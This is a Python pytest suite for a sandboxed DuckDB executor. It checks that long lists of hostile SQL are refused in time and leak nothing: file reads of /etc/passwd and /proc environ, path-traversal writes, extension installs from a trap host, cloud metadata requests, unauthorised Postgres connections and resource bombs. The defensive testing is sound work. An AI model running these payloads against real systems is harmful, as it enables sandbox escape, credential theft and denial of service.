"""Hostile SQL in DuckDB steps: none gets out of its place, each is answered in time, and the worker lives on."""

from __future__ import annotations

import contextlib
import os
import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Final

import _duckdb
import psycopg
import pytest
from django.conf import settings
from psycopg import sql

from executors.actions.duckdb import DuckdbAction
from executors.actions.duckdb.kind import wheel_extensions
from executors.actions.postgres import PostgresAction
from executors.contract import ActionFailed, ActionRequest, Credential
from executors.running import Lent
from executors.sandbox import fence
from executors.sandbox.duckdb_rules import DENIED_FUNCTIONS, PRAGMAS
from noetl_site import embedded

CANARY: Final = "canary-8d1f"
PASSWORD: Final = "pw-canary-77"
ROLE: Final = f"duck_attacker_{os.environ.get('PYTEST_XDIST_WORKER', 'main')}"
SECONDS: Final = 2.0
BOMB_SECONDS: Final = 0.7
"""Within which each is answered."""

# {secret}: a file with the canary, outside; {outside}: its folder; {readable}: a folder that the step names in `read`;
# {trap}: host and port of a server that must never be connected to; {other}: another execution's folder.
READS: Final = [
    "select * from read_text('{secret}')",
    "select * from read_blob('{secret}')",
    "from read_csv('{secret}', header = false)",
    "from read_csv_auto('{secret}')",
    "from sniff_csv('{secret}')",
    "from read_json('{secret}')",
    "from read_json_objects('{secret}', format = 'unstructured')",
    "from read_ndjson('{secret}')",
    "from read_parquet('{secret}')",
    "from parquet_metadata('{secret}')",
    "from parquet_kv_metadata('{secret}')",
    "from '{secret}'",
    'from "{secret}"',
    "from glob('{outside}/*')",
    "from read_text('{outside}/*')",
    "from read_text(['{readable}/ok.csv', '{secret}'])",
    "select * from read_text('../../{secret}')",
    "select * from read_text('{readable}/../outside/secret.txt')",
    "select * from read_text('/proc/self/root{secret}')",
    "select * from read_text('file://{secret}')",
    "select * from read_text('/proc/self/environ')",
    "select * from read_blob('/proc/self/mem')",
    "select * from read_text('/proc/1/environ')",
    "select * from read_text('/etc/passwd')",
    "select * from read_text('/etc/' || 'pass' || 'wd')",
    "select * from read_text(getvariable('x'))",
    "prepare p as from read_text($1); execute p('{secret}')",
    "create macro m(p) as table from read_text(p); from m('{secret}')",
    "create view v as from read_text('{secret}'); from v",
    "create table t as from read_text('{secret}')",
    "create table t (x text); copy t from '{secret}'; from t",
    "insert into t from read_text('{secret}')",
    "select (select content from read_text('{secret}'))",
    "select getenv('HOME')",
    "from read_text('{other}/secret.txt')",
    "from read_text('{data}/secrets.json')",
    "attach '{data}/duckdb/e2.duckdb' as o (read_only)",
    "attach '{outside}/secret.duckdb' as o (read_only); from o.t",
    "attach '../../duckdb/e2.duckdb' as o",
    "attach '{outside}/secret.duckdb' as o (type sqlite)",
    "from read_duckdb('{outside}/secret.duckdb')",
    "from '{outside}/secret.duckdb'",
    "from sqlite_scan('{outside}/secret.sqlite', 't')",
    "import database '{outside}'",
    "pragma import_database('{outside}')",
]
WRITES: Final = [
    "copy (select 1) to '{outside}/x.csv'",
    "copy (select 1) to '{outside}/x.parquet' (format parquet)",
    "copy (select 1) to '../../x.csv'",
    "copy (select 1) to '{readable}/ok.csv'",
    "copy (select 1) to '{readable}/new.csv'",
    "copy (select 1) to '{readable}' (format csv, partition_by (a))",
    "copy (select 1) to ('{readable}/' || 'new.csv')",
    "copy (select 1) to $target",
    "set variable t = '{readable}/new.csv'; copy (select 1) to (getvariable('t'))",
    "copy (select 1) to e'{readable}/new.csv'",
    "copy (select 1) to $${readable}/new.csv$$",
    "copy (select 1) to 'x.csv'\n'/../../../{readable}/new.csv'",
    'copy (select 1) to "{readable}/new.csv"',
    "copy (select 1) to 'file:{readable}/new.csv'",
    "copy (select 1) to '~/../../../x.csv'",
    "explain analyze copy (select 1) to '{readable}/new.csv'",
    "prepare p as copy (select 1) to '{readable}/new.csv'; execute p",
    "copy (select 1 a, 2 b) to 'p' (format csv, partition_by (a), filename_pattern '../../../../readable/n_{{i}}')",
    "copy (select 1 a, 2 b) to 'p' (format csv, per_thread_output, file_extension '/../../../readable/n')",
    "export database '{readable}/out'",
    "export database '{outside}/out'",
    "attach '{readable}/new.duckdb' as n",
    "attach '{readable}/lib.duckdb' as n; create table n.x as select 1 a",
    "attach '{readable}/lib.duckdb' as n (read_only false); create table n.x as select 1 a",
    "attach '{readable}/lib.duckdb' as n (read_only, access_mode read_write)",
    "attach or replace '{readable}/lib.duckdb' as n",
    "attach '{outside}/new.duckdb' as n",
    "call enable_logging(storage = 'file', storage_config = {{'path': '{readable}/log'}})",
    "from enable_logging('QueryLog')",
    "pragma enable_profiling = 'json'",
    "pragma enable_profiling; set profiling_output = '{readable}/profile'",
    "set log_query_path = '{readable}/log'",
    "set temp_directory = '{readable}'",
]
SETTINGS: Final = [
    "set enable_external_access = true",
    "set lock_configuration = false",
    "reset enable_external_access",
    "set global allowed_directories = ['/']",
    "set allowed_paths = ['{secret}']",
    "set file_search_path = '/'",
    "set home_directory = '/'",
    "set memory_limit = '1TB'",
    "set threads = 1000",
    "set max_temp_directory_size = '1TB'",
    "set allow_unsigned_extensions = true",
    "set allow_unredacted_secrets = true",
    "set autoinstall_known_extensions = true",
    "set custom_extension_repository = 'http://{trap}'",
    "set python_enable_replacements = true; from payload",
    "pragma memory_limit = '1TB'",
    "pragma enable_verification",
    "install spatial",
    "install httpfs from 'http://{trap}'",
    "force install httpfs from community",
    "load '{outside}/evil.duckdb_extension'",
    "update extensions",
    "create persistent secret s (type s3, key_id 'a', secret 'b')",
    "create or replace temporary secret s (type http, bearer_token 'x')",
    "CREATE/**/SECRET s (type s3)",
    "drop secret pg; create secret pg (type postgres, host 'x')",
    "from json_execute_serialized_sql(json_serialize_sql('select 1'))",
    "from query('select 1')",
    "from query_table('x')",
    "from arrow_scan(1, 2, 3)",
    "from pandas_scan(1)",
    "select 1\x00",
]
NETWORK: Final = [
    "load httpfs; from read_text('http://{trap}/x')",
    "load httpfs; from read_csv('http://169.254.169.254/latest/meta-data/')",
    "load httpfs; from read_text('https://{trap}/x')",
    "load httpfs; from read_text('hf://datasets/x/y.csv')",
    "load httpfs; from 's3://bucket/x.csv?s3_endpoint={trap}&s3_use_ssl=false'",
    "load httpfs; copy (select 1) to 's3://bucket/x.csv?s3_endpoint={trap}'",
    "load httpfs; attach 'http://{trap}/x.duckdb' as x",
    "load httpfs; set http_proxy = '{trap}'",
]
SERVERS: Final = [
    "from postgres_scan('{dsn}', 'public', 't')",
    "FROM Postgres_Scan ('{dsn}', 'public', 't')",
    "from \"postgres_scan\"('{dsn}', 'public', 't')",
    "from system.main.postgres_scan('{dsn}', 'public', 't')",
    "from postgres_scan/* */('{dsn}', 'public', 't')",
    "from postgres_scan\n-- x\n('{dsn}', 'public', 't')",
    "from postgres_scan\u00a0('{dsn}', 'public', 't')",
    "from postgres_scan\u2003('{dsn}', 'public', 't')",
    "from \ufeffpostgres_scan('{dsn}', 'public', 't')",
    "from postgres_scan_pushdown('{dsn}', 'public', 't')",
    "call postgres_attach('{dsn}')",
    "from postgres_query('{dsn}', 'select 1')",
    "call postgres_execute('{dsn}', 'select 1')",
    "attach '{dsn}' as other (type postgres)",
    "attach '{dsn}' as other (type 'postgres')",
    "attach 'postgresql://x:y@{trap}/d' as other",
    "attach '' as other (type postgres, secret pg)",
    "attach or replace '{dsn}' as other (type postgres, read_only)",
    "create secret o (type postgres, host '{host}', port '{port}'); attach '' as o (type postgres, secret o)",
    "from query('from post' || 'gres_scan(''{dsn}'', ''a'', ''b'')')",
    "create macro m() as table from postgres_scan('{dsn}', 'a', 'b'); from m()",
    "create view v as from postgres_scan('{dsn}', 'a', 'b')",
    "prepare p as from postgres_scan('{dsn}', 'a', 'b'); execute p",
    "explain from postgres_scan('{dsn}', 'a', 'b')",
    "select * from (values (1)) t, lateral (from postgres_scan('{dsn}', 'a', 'b'))",
    "with x as (from postgres_scan('{dsn}', 'a', 'b')) from x",
    "create table t as from postgres_scan('{dsn}', 'a', 'b')",
    "merge into t using (from postgres_scan('{dsn}', 'a', 'b')) s on true when matched then delete",
    "copy (from postgres_scan('{dsn}', 'a', 'b')) to 'x.csv'",
    "from postgres_configure_pool(catalog_name = 'pg', max_connections = 100)",
    "from sqlite_query('pg', 'select 1')",
]
BOMBS: Final = [
    "select count(*) from range(1000000000000) a, range(1000) b",
    "from range(1000000000000)",
    "select repeat('x', 100000) from range(100000000)",
    "with recursive r as (select 1 n union all select n + 1 from r) select max(n) from r",
    "select list(a) from range(100000000000) t(a)",
    "select string_agg(repeat('x', 1000000)) from range(1000000)",
    "create table t as select range a, repeat(md5(range::text), 100) from range(10000000000)",
    "select repeat(repeat('x', 1000000), 1000000)",
    "create macro f(n) as f(n + 1); select f(1)",
    "create table t as from range(100000000) a order by random()",
    "copy (from range(1000000000000)) to 'big.csv'",
    f"select {'(' * 20000}1{')' * 20000}",
    f"select {'-' * 1}{'1+' * 100000}1",
    f"select {' union all select '.join(['1'] * 20000)}",
    f"select '{'x' * 5_000_000}'",
    "select * from range(1000000) a join range(1000000) b on a.range % 7 = b.range % 7",
    "select regexp_matches(repeat('a', 100000), '(a*)*b')",
    "select unnest(range(10000000000))",
]
HARMLESS: Final = frozenset(
    {
        *("checkpoint", "duckdb_approx_database_count", "duckdb_columns", "duckdb_connection_count"),
        *("duckdb_constraints", "duckdb_coordinate_systems", "duckdb_databases", "duckdb_dependencies"),
        *("duckdb_extensions", "duckdb_external_file_cache", "duckdb_functions", "duckdb_indexes"),
        *("duckdb_keywords", "duckdb_log_contexts", "duckdb_logs", "duckdb_memory", "duckdb_optimizers"),
        *("duckdb_prepared_statements", "duckdb_schemas", "duckdb_secret_types", "duckdb_secrets"),
        *("duckdb_sequences", "duckdb_settings", "duckdb_table_sample", "duckdb_tables"),
        *("duckdb_temporary_files", "duckdb_types", "duckdb_variables", "duckdb_views", "generate_series"),
        *("glob", "icu_calendar_names", "json_each", "json_tree", "parquet_bloom_probe"),
        *("parquet_file_metadata", "parquet_full_metadata", "parquet_kv_metadata", "parquet_metadata"),
        *("parquet_scan", "parquet_schema", "pg_clear_cache", "pg_timezone_names", "postgres_execute"),
        *("postgres_query", "pragma_collations", "pragma_database_size", "pragma_metadata_info"),
        *("pragma_platform", "pragma_show", "pragma_storage_info", "pragma_table_info", "pragma_user_agent"),
        *("pragma_version", "range", "read_blob", "read_csv", "read_csv_auto", "read_json", "read_json_auto"),
        *("read_json_objects", "read_json_objects_auto", "read_ndjson", "read_ndjson_auto"),
        *("read_ndjson_objects", "read_parquet", "read_text", "repeat", "repeat_row", "sniff_csv", "summary"),
        *("test_all_types", "test_vector_types", "unnest", "which_secret"),
    }
)
"""Table functions that were looked at: they read what DuckDB's settings let them, or tell of the session."""
ALL: Final = [*READS, *WRITES, *SETTINGS, *NETWORK]


class Trap:
    """A listener that must never be connected to."""

    def __init__(self) -> None:
        self._listener = socket.create_server(("127.0.0.1", 0))
        self._listener.settimeout(0.05)
        self._over = threading.Event()
        self.connections = 0
        self._thread = threading.Thread(target=self._listen)
        self._thread.start()

    @property
    def port(self) -> int:
        return int(self._listener.getsockname()[1])

    def _listen(self) -> None:
        while not self._over.is_set():
            with contextlib.suppress(TimeoutError):
                self._listener.accept()[0].close()
                self.connections += 1

    def close(self) -> None:
        self._over.set()
        self._thread.join()
        self._listener.close()


@dataclass
class Place:
    """Everything that hostile SQL may look for, and the kind that it meets."""

    action: DuckdbAction
    root: Path
    trap: Trap
    credentials: dict[str, Credential] = field(default_factory=dict)

    @property
    def words(self) -> dict[str, str]:
        address = f"127.0.0.1:{self.trap.port}"
        return {
            "secret": str(self.root / "outside" / "secret.txt"),
            "outside": str(self.root / "outside"),
            "readable": str(self.root / "readable"),
            "data": str(self.root / "data"),
            "other": str(self.root / "data" / "files" / "e2"),
            "trap": address,
            "host": "127.0.0.1",
            "port": str(self.trap.port),
            "dsn": f"host=127.0.0.1 port={self.trap.port} user=x password=y dbname=z connect_timeout=1",
        }

    def run(self, text: str, *, seconds: float = SECONDS, **arguments: Any) -> Any:
        given = {"query": text, "database": ":memory:", **arguments}
        request = ActionRequest("duckdb", given, {}, "e1", "e1:s", "s", 1, "e1:s", seconds)
        context = Lent(self.root / "data", threading.Event(), self.credentials.__getitem__)
        return self.action.run(request, context)

    def refused(self, text: str, **arguments: Any) -> ActionFailed:
        """The failure of hostile SQL, which must come in time and tell nothing."""
        for name, word in self.words.items():
            text = text.replace(f"{{{name}}}", word)
        before = self.listing()
        begun = time.monotonic()
        with pytest.raises(ActionFailed) as caught:
            self.run(text.replace("{{", "{").replace("}}", "}"), **arguments)
        assert time.monotonic() - begun < SECONDS
        told = f"{caught.value} {caught.value.data}"
        assert CANARY not in told and PASSWORD not in told and "root:x" not in told
        assert self.listing() == before and self.trap.connections == 0
        return caught.value

    def listing(self) -> dict[str, bytes]:
        """Every file that the step may not change."""
        watched = ("outside", "readable", "data/duckdb", "data/files/e2")
        files = [file for part in watched for file in (self.root / part).rglob("*") if file.is_file()]
        return {str(file): file.read_bytes() for file in [*files, self.root / "data/secrets.json"]}


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    root = tmp_path_factory.mktemp("attacks")
    for folder in ("outside", "readable", "data/duckdb", "data/files/e2"):
        (root / folder).mkdir(parents=True)
    for file in ("outside/secret.txt", "data/files/e2/secret.txt", "data/secrets.json", "outside/schema.sql"):
        (root / file).write_text(f"{CANARY}\n")
    (root / "readable" / "ok.csv").write_text("a\n1\n")
    running = embedded.ensure_running(settings.NOETL_DATA_DIR)
    with embedded.connect(running.folder) as connection:
        connection.execute(sql.SQL("DROP DATABASE IF EXISTS {}").format(sql.Identifier(ROLE)))
        connection.execute(sql.SQL("DROP ROLE IF EXISTS {}").format(sql.Identifier(ROLE)))
        made = sql.SQL("CREATE ROLE {} LOGIN PASSWORD {}")
        connection.execute(made.format(sql.Identifier(ROLE), sql.Literal(PASSWORD)))
        connection.execute(sql.SQL("CREATE DATABASE {0} OWNER {0}").format(sql.Identifier(ROLE)))
    host = str(running.folder.postgres_socket)
    fields = {"db_host": host, "db_user": ROLE, "db_password": PASSWORD, "db_name": ROLE}
    with psycopg.connect(host=host, user=ROLE, password=PASSWORD, dbname=ROLE) as connection:
        connection.execute("CREATE TABLE t (a int)")
    trap = Trap()
    action = DuckdbAction([root / "readable"], memory_limit="256MB", postgres_options=PostgresAction().target_options)
    place = Place(action, root, trap, {"pg": Credential("pg", "postgres", fields)})
    for database in ("readable/lib.duckdb", "outside/secret.duckdb", "data/duckdb/e2.duckdb"):
        place.run("attach 'made.duckdb' as m; create table m.t as select 'canary-8d1f' a; detach m")
        (root / "data/files/e1/made.duckdb").rename(root / database)
    yield place
    action.close()
    trap.close()


@pytest.mark.parametrize("text", ALL)
def test_sql_gets_nowhere(place: Place, text: str) -> None:
    place.refused(text, read=[str(place.root / "readable")], params={"target": str(place.root / "readable/new.csv")})


@pytest.mark.parametrize("text", SERVERS)
def test_a_step_reaches_only_the_servers_it_names(place: Place, text: str) -> None:
    failure = place.refused(text, auth={"pg": "pg"})
    # By the rules, and not only by the kernel behind them.
    named = any(function in text.lower() for function in ("postgres_scan", "postgres_attach", "_pool", "sqlite_query"))
    assert failure.code == "sql_refused" or not named


@pytest.mark.parametrize("text", ["from pg.t", "select * from duckdb_databases() where type = 'postgres'"])
def test_what_is_named_is_reached(place: Place, text: str) -> None:
    assert place.run(text, auth={"pg": "pg"})["command_0"]["status"] == "success"


@pytest.mark.parametrize("text", BOMBS, ids=lambda text: text[:60])
def test_bombs_end_in_time(place: Place, text: str) -> None:
    """Some are small enough after all; none takes the worker, the disk or more time than it has."""
    begun = time.monotonic()
    with contextlib.suppress(ActionFailed):
        place.run(text, seconds=BOMB_SECONDS)
    assert time.monotonic() - begun < SECONDS
    assert place.run("select 1 a")["command_0"]["rows"] == [{"a": 1}]
    left = sum(file.stat().st_size for file in (place.root / "data").rglob("*") if "big" not in file.name)
    assert left < 50_000_000


def test_foreign_views_and_macros_are_looked_at(place: Place) -> None:
    """A database file may come from anywhere, and with it what nobody has checked."""
    folder = place.root / "data" / "files" / "e1"
    _made_elsewhere(folder / "evil.duckdb", "create macro m(d) as table from postgres_scan(d, 'a', 'b')")
    failure = place.refused("attach 'evil.duckdb' as e; from e.m('{dsn}')", auth={"pg": "pg"})
    assert failure.code == "sql_refused"


def test_links_lead_nowhere(place: Place, tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "link").symlink_to(place.root / "outside")
    (tmp_path / "in" / "file").symlink_to(place.root / "outside" / "secret.txt")
    action = DuckdbAction([tmp_path / "in"])
    try:
        own = Place(action, place.root, place.trap)
        for read in (".", "link", "file", "link/secret.txt", str(tmp_path / "in")):
            failure = own.refused(f"from read_text('{tmp_path}/in/file')", read=[read])
            assert failure.code == "path_not_allowed"
        # One that is made after the look: the kernel stands behind it, where it can.
        (tmp_path / "in" / "link").unlink()
        (tmp_path / "in" / "file").unlink()
        (place.root / "data" / "files" / "e1").mkdir(parents=True, exist_ok=True)
        late = place.root / "data" / "files" / "e1" / "late"
        late.symlink_to(place.root / "outside")
        own.refused("copy (select 1) to 'late/x.csv'")
        if fence.version():
            own.refused("from read_text('late/secret.txt')")
        late.unlink()
    finally:
        action.close()


@pytest.mark.parametrize(
    "database", ["../secrets.json", "/etc/x.db", "../duckdb/e2.duckdb", "../files/e2/x.db", "a/../../x.db", "..", ""]
)
def test_databases_stay_in_their_folder(place: Place, database: str) -> None:
    assert place.refused("select 1", database=database).code == "path_not_allowed"


def test_every_function_of_duckdb_is_known(place: Place) -> None:
    """A new release may bring functions that read, write or connect: this test asks for somebody to look."""
    text = "select distinct function_name n from duckdb_functions() where function_type in ('table', 'pragma')"
    found = place.run(f"load httpfs; {text}", auth={"pg": "pg"})["command_1"]["rows"]
    assert {row["n"] for row in found} - DENIED_FUNCTIONS - PRAGMAS == HARMLESS


def _made_elsewhere(path: Path, statement: str) -> None:
    """A database file that was made past every rule, by DuckDB itself."""
    with _duckdb.connect(str(path)) as connection:
        connection.execute(f"LOAD '{wheel_extensions(['postgres'])['postgres']}'")
        connection.execute(statement)
